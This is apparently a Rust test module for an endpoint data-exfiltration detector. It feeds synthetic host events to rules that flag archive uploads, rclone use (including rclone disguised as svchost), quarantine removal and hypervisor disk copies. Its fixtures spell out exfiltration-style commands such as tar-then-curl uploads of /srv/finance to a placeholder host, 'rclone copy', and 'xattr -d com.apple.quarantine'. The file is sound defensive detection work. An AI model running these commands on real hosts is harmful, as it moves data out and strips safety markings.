//! Made-up hosts: what happens on them, what they send, and what is found.

use super::*;
use crate::attribute::Status;
use crate::detect::learn::host::Part;
use crate::detect::rules;
use crate::endpoint::{
    ClockClass, Common, ConnectEvent, Direction, FileEvent, FileOp, HostRef, Parent, Proc, ProcessEvent,
    ProcessKind, SourceKind,
};

/// The clock of the host is this much ahead of the sensor's.
const AHEAD: i64 = 7_200;

struct Host {
    watch: Watch,
    config: DetectConfig,
    source: SourceKind,
    connect_clock: ClockClass,
}

impl Host {
    fn new() -> Self {
        let config = DetectConfig::default();
        let watch = Watch::new(&Catalogue::builtin(), &config);
        Self { watch, config, source: SourceKind::Ecs, connect_clock: ClockClass::Host }
    }

    fn common(&self, at: i64) -> Common {
        Common {
            source: self.source,
            host: HostRef { id: "h1".into(), ..HostRef::default() },
            at: Timestamp::new(at + AHEAD, 0),
            clock: ClockClass::Host,
            received: None,
            grain_ns: 0,
            record: None,
        }
    }

    fn tell(&mut self, at: i64, key: u64, event: &EndpointEvent) -> bool {
        self.watch.event(event, key, Timestamp::new(at, 0))
    }

    fn start(&mut self, at: i64, proc: &Proc) -> bool {
        let (common, proc) = (self.common(at), proc.clone());
        let key = proc.entity.unwrap_or(0);
        self.tell(at, key, &EndpointEvent::Process(ProcessEvent { common, proc, kind: ProcessKind::Start }))
    }

    fn file(&mut self, at: i64, proc: &Proc, op: FileOp, path: &str) -> bool {
        let attribute = (op == FileOp::AttributeRemoved).then(|| "com.apple.quarantine".into());
        let event = FileEvent {
            common: self.common(at),
            proc: proc.clone(),
            op,
            path: path.into(),
            destination: None,
            size: Some(12_000_000),
            attribute,
            label: Some("Confidential".into()),
        };
        self.tell(at, proc.entity.unwrap_or(0), &EndpointEvent::File(event))
    }

    fn connect(&mut self, at: i64, proc: &Proc) {
        let common = Common { clock: self.connect_clock, ..self.common(at) };
        let event = ConnectEvent::to(common, proc.clone(), [192, 0, 2, 1].into(), 443);
        let event = ConnectEvent { direction: Direction::Out, ..event };
        self.tell(at, proc.entity.unwrap_or(0), &EndpointEvent::Connect(event));
    }

    /// `bytes` leave; what is found, the strongest first.
    fn sent(&mut self, at: i64, proc: &Proc, kind: Kind, bytes: u64) -> Vec<(&'static str, Finding)> {
        let said = said(proc);
        let service: Arc<str> = "service".into();
        let now = Timestamp::new(at, 0);
        let activity =
            Activity { host: 1, target: 2, service: &service, service_id: None, said: &said, bytes, now };
        self.watch.sent(&activity);
        let view = self.watch.view(&activity, self.config.time_window);
        let mut sight = sight(&self.config, kind, bytes);
        sight.process = view.map(Box::new);
        rules::look(&sight, true).into_iter().map(|(a, f)| (a.name, f)).filter(|(n, _)| is_ours(n)).collect()
    }
}

fn is_ours(name: &str) -> bool {
    ANALYTICS.iter().any(|a| a.name == name)
}

fn sight(config: &DetectConfig, kind: Kind, out: u64) -> Sight<'_> {
    let mut learner = crate::detect::learn::Learner::default();
    let host = learner.add_host(Part::default(), 0);
    let target = learner.target(host, "service", "service", kind, 0);
    let moved = crate::detect::learn::Moved {
        host,
        target,
        secs: 10,
        bytes: (out, out / 100),
        push: true,
        opened: true,
    };
    learner.observe(&moved);
    let mut sight = learner.sight(host, target, 10, config).expect("a pair");
    sight.settled = true;
    sight
}

fn said(proc: &Proc) -> Attribution {
    let parent = proc.parent.as_ref().map(|p| {
        Arc::new(crate::attribute::ParentProcess {
            key: p.entity,
            name: Arc::clone(&p.name),
            path: None,
            pid: None,
        })
    });
    let process = Process {
        key: proc.entity.unwrap_or(0),
        name: Arc::clone(&proc.name),
        path: proc.path.clone(),
        command_line: proc.command_line.clone(),
        original_name: proc.original_name.clone(),
        parent,
        ..Process::default()
    };
    Attribution {
        level: Level::L1,
        confidence: 0.99,
        status: Status::Matched,
        candidates: 1,
        process: Some(Arc::new(process)),
        ..Attribution::default()
    }
}

fn proc(entity: u64, path: &str, command: &str, parent: u64, parent_name: &str) -> Proc {
    Proc {
        entity: Some(entity),
        path: Some(path.into()),
        name: Proc::base_name(path).into(),
        command_line: (!command.is_empty()).then(|| command.into()),
        parent: Some(Box::new(Parent {
            entity: Some(parent),
            name: parent_name.into(),
            ..Parent::default()
        })),
        ..Proc::default()
    }
}

fn names(found: &[(&'static str, Finding)]) -> Vec<&'static str> {
    found.iter().map(|f| f.0).collect()
}

const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
const CHROME: &str = r"C:\Program Files\Google\Chrome\Application\chrome.exe";

#[test]
fn an_office_program_that_uploads() {
    let mut host = Host::new();
    let word = proc(1, WORD, "", 9, "explorer");
    host.file(100, &word, FileOp::Read, r"C:\Users\ann\plan.docx");
    host.connect(120, &word);
    let found = host.sent(130, &word, Kind::Storage, 5_000_000);
    assert_eq!(names(&found)[0], "application_upload");
    assert!(found[0].1.text.contains("plan.docx"), "{}", found[0].1.text);
    // Alone it is for the log; a lane that finds the upload odd as well makes it an alert.
    assert_eq!(found[0].1.severity, Severity::Low);
    // Below the level, to the site's own, and by a browser: nothing.
    let mut host = Host::new();
    assert!(host.sent(130, &word, Kind::Storage, 500_000).is_empty());
    assert!(host.sent(131, &word, Kind::Own, 50_000_000).is_empty());
    let chrome = proc(2, CHROME, "", 9, "explorer");
    assert!(Host::new().sent(130, &chrome, Kind::Storage, 500_000_000).is_empty());
}

#[test]
fn what_an_office_program_does_every_day_stays_in_the_log() {
    let mut host = Host::new();
    let word = proc(1, WORD, "", 9, "explorer");
    for day in 0..5 {
        host.sent(day * 86_400, &word, Kind::Storage, 2_000_000);
    }
    let found = host.sent(5 * 86_400, &word, Kind::Storage, 2_000_000);
    assert!(found.iter().all(|f| f.1.severity == Severity::Low), "{found:?}");
}

#[test]
fn packed_then_sent_by_one_tree() {
    let mut host = Host::new();
    let shell = proc(5, "/bin/bash", "bash collect.sh", 9, "sshd");
    let tar = proc(6, "/usr/bin/tar", "tar czf /tmp/x.tgz /srv/finance", 5, "bash");
    let curl = proc(7, "/usr/bin/curl", "curl -T /tmp/x.tgz https://h/", 5, "bash");
    host.start(90, &shell);
    host.start(100, &tar);
    host.file(110, &tar, FileOp::Create, "/tmp/x.tgz");
    host.start(120, &curl);
    host.connect(121, &curl);
    let found = host.sent(125, &curl, Kind::Unknown, 12_000_000);
    let archive = found.iter().find(|f| f.0 == "archive_upload").expect("found");
    assert!(archive.1.score >= 0.6 && archive.1.severity >= Severity::Medium, "{archive:?}");
    assert!(
        archive.1.text.contains("/tmp/x.tgz") && archive.1.text.contains("before it"),
        "{}",
        archive.1.text
    );
    let view_steps = {
        let service: Arc<str> = "service".into();
        let said = said(&curl);
        let now = Timestamp::new(125, 0);
        let a =
            Activity { host: 1, target: 2, service: &service, service_id: None, said: &said, bytes: 0, now };
        host.watch.view(&a, Span::from_secs(86_400)).expect("a view").steps()
    };
    let deeds: Vec<Deed> = view_steps.iter().map(|s| s.deed).collect();
    assert_eq!(deeds, [Deed::Archived, Deed::Staged, Deed::Started]);
    assert_eq!(view_steps[1].size, Some(12_000_000));
    assert_eq!(view_steps[1].label.as_deref(), Some("Confidential"));
}

#[test]
fn an_archive_made_after_the_upload_is_no_reason() {
    let mut host = Host::new();
    let tar = proc(6, "/usr/bin/tar", "", 5, "bash");
    let curl = proc(7, "/usr/bin/curl", "", 5, "bash");
    host.connect(50, &curl);
    host.file(110, &tar, FileOp::Create, "/tmp/x.tgz");
    let found = host.sent(125, &curl, Kind::Unknown, 12_000_000);
    assert!(!names(&found).contains(&"archive_upload"), "{found:?}");
}

#[test]
fn clocks_that_differ_decide_no_order() {
    let mut host = Host::new();
    (host.source, host.connect_clock) = (SourceKind::Sysmon, ClockClass::Network);
    let tar = proc(6, "/usr/bin/tar", "", 5, "bash");
    let curl = proc(7, "/usr/bin/curl", "", 5, "bash");
    host.file(110, &tar, FileOp::Create, "/tmp/x.tgz");
    host.connect(50, &curl);
    let found = host.sent(125, &curl, Kind::Unknown, 12_000_000);
    let archive = found.iter().find(|f| f.0 == "archive_upload").expect("found");
    assert!(archive.1.text.contains("near it"), "{}", archive.1.text);
}

#[test]
fn the_archive_of_another_host_says_nothing() {
    let mut host = Host::new();
    let tar = proc(6, "/usr/bin/tar", "", 5, "bash");
    let mut common = host.common(100);
    common.host.id = "h2".into();
    let event = FileEvent {
        common,
        proc: tar,
        op: FileOp::Create,
        path: "/tmp/x.tgz".into(),
        destination: None,
        size: None,
        attribute: None,
        label: None,
    };
    host.tell(100, 6, &EndpointEvent::File(event));
    let curl = proc(7, "/usr/bin/curl", "", 50, "sshd");
    host.connect(120, &curl);
    assert!(!names(&host.sent(125, &curl, Kind::Unknown, 12_000_000)).contains(&"archive_upload"));
}

#[test]
fn quarantine_taken_off_by_hand_then_an_upload() {
    let mut host = Host::new();
    let shell = proc(5, "/bin/zsh", "", 9, "terminal");
    let xattr = proc(6, "/usr/bin/xattr", "xattr -d com.apple.quarantine /Users/ann/x.dmg", 5, "zsh");
    let python = proc(7, "/usr/bin/python3", "python3 up.py", 5, "zsh");
    host.start(90, &shell);
    host.start(100, &xattr);
    host.connect(110, &python);
    let found = host.sent(120, &python, Kind::Unknown, 2_000_000);
    assert_eq!(names(&found)[0], "quarantine_upload");
    // The attribute event of Endpoint Security says the same.
    let mut host = Host::new();
    let word = proc(8, "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word", "", 9, "launchd");
    host.file(100, &word, FileOp::Write, "/Users/ann/x.docx");
    host.file(101, &word, FileOp::AttributeRemoved, "/Users/ann/x.docx");
    host.connect(105, &word);
    let found = host.sent(110, &word, Kind::Storage, 2_000_000);
    assert_eq!(names(&found)[0], "quarantine_upload");
    assert!(found[0].1.text.contains("x.docx"));
}

#[test]
fn tools_and_their_disguises() {
    let rclone = proc(1, "/usr/bin/rclone", "rclone copy /srv m:x", 9, "sshd");
    let found = Host::new().sent(10, &rclone, Kind::Anonymous, 20_000_000);
    assert_eq!(names(&found)[0], "tool_upload");
    assert_eq!(found[0].1.severity, Severity::Medium);
    let found = Host::new().sent(10, &rclone, Kind::Anonymous, 2_000_000_000);
    assert_eq!(found[0].1.severity, Severity::Critical);
    let svchost = Proc {
        original_name: Some("rclone.exe".into()),
        ..proc(1, r"C:\Windows\System32\svchost.exe", "", 9, "services")
    };
    let found = Host::new().sent(10, &svchost, Kind::Storage, 20_000_000);
    assert_eq!(names(&found), ["disguised_upload", "tool_upload"]);
    assert!(found[0].1.text.contains("looks like rclone"), "{}", found[0].1.text);
    assert!(Host::new().sent(10, &rclone, Kind::Own, 2_000_000_000).is_empty());
}

#[test]
fn a_script_that_posts_to_a_web_hook() {
    let script = proc(1, "/usr/bin/python3", "python3 x.py", 9, "cron");
    let found = Host::new().sent(10, &script, Kind::Hook, 150_000);
    assert_eq!(names(&found), ["script_post"]);
    let mut host = Host::new();
    for day in 0..3 {
        host.sent(day * 86_400, &script, Kind::Hook, 150_000);
    }
    assert!(host.sent(3 * 86_400, &script, Kind::Hook, 150_000).is_empty());
}

#[test]
fn a_program_that_never_uploaded() {
    let strange = proc(1, "/opt/acme/acmed", "", 9, "systemd");
    let found = Host::new().sent(10, &strange, Kind::Unknown, 150_000_000);
    assert_eq!(names(&found), ["first_upload"]);
    assert!(Host::new().sent(10, &strange, Kind::Unknown, 50_000_000).is_empty());
}

#[test]
fn a_disk_taken_from_a_hypervisor_leaves() {
    let config = DetectConfig::default();
    let mut sight = sight(&config, Kind::Unknown, 900_000_000);
    sight.from_hypervisor = 1_000_000_000;
    sight.pushed = 900_000_000;
    let found = rules::look(&sight, true);
    assert_eq!(found[0].0.name, "datastore_upload");
    assert_eq!(found[0].1.severity, Severity::High);
    sight.from_hypervisor = 10_000_000;
    assert!(rules::look(&sight, true).iter().all(|f| f.0.name != "datastore_upload"));
    // The shell of the hypervisor says who copied what.
    let mut host = Host::new();
    let copy = proc(1, "/bin/vmkfstools", "vmkfstools -i /vmfs/volumes/ds/vm/vm.vmdk /tmp/x.vmdk", 9, "sh");
    assert!(host.start(100, &copy));
}

#[test]
fn nothing_is_said_of_an_unsure_process() {
    let mut host = Host::new();
    let word = proc(1, WORD, "", 9, "explorer");
    let unsure = Attribution { confidence: 0.3, candidates: 3, level: Level::L2a, ..said(&word) };
    let service: Arc<str> = "service".into();
    let now = Timestamp::new(1, 0);
    let a = Activity {
        host: 1,
        target: 2,
        service: &service,
        service_id: None,
        said: &unsure,
        bytes: 9_000_000,
        now,
    };
    assert!(!host.watch.sent(&a));
    assert!(host.watch.view(&a, Span::from_secs(86_400)).is_none());
}

#[test]
fn bounded() {
    let mut host = Host::new();
    for i in 0..2_000_u64 {
        let reader = proc(i, "/usr/bin/python3", "", 5, "bash");
        host.file(i as i64, &reader, FileOp::Read, "/srv/x");
    }
    for i in 0..1_000 {
        host.file(i, &proc(1, "/usr/bin/tar", "", 5, "bash"), FileOp::Create, &format!("/tmp/{i}.zip"));
    }
    let service: Arc<str> = "service".into();
    let last = said(&proc(1, "/usr/bin/tar", "", 5, "bash"));
    let now = Timestamp::new(1_000, 0);
    let a = Activity { host: 1, target: 2, service: &service, service_id: None, said: &last, bytes: 1, now };
    let view = host.watch.view(&a, Span::from_secs(86_400)).expect("a view");
    assert!(view.story.facts.len() <= 96 && view.steps().len() <= MAX_FILES);
}

#[test]
fn the_analytics_of_all_rules_have_ids_of_their_own() {
    let ids: std::collections::HashSet<u32> = rules::all().map(|a| a.signature_id).collect();
    assert_eq!(ids.len(), rules::all().count());
}
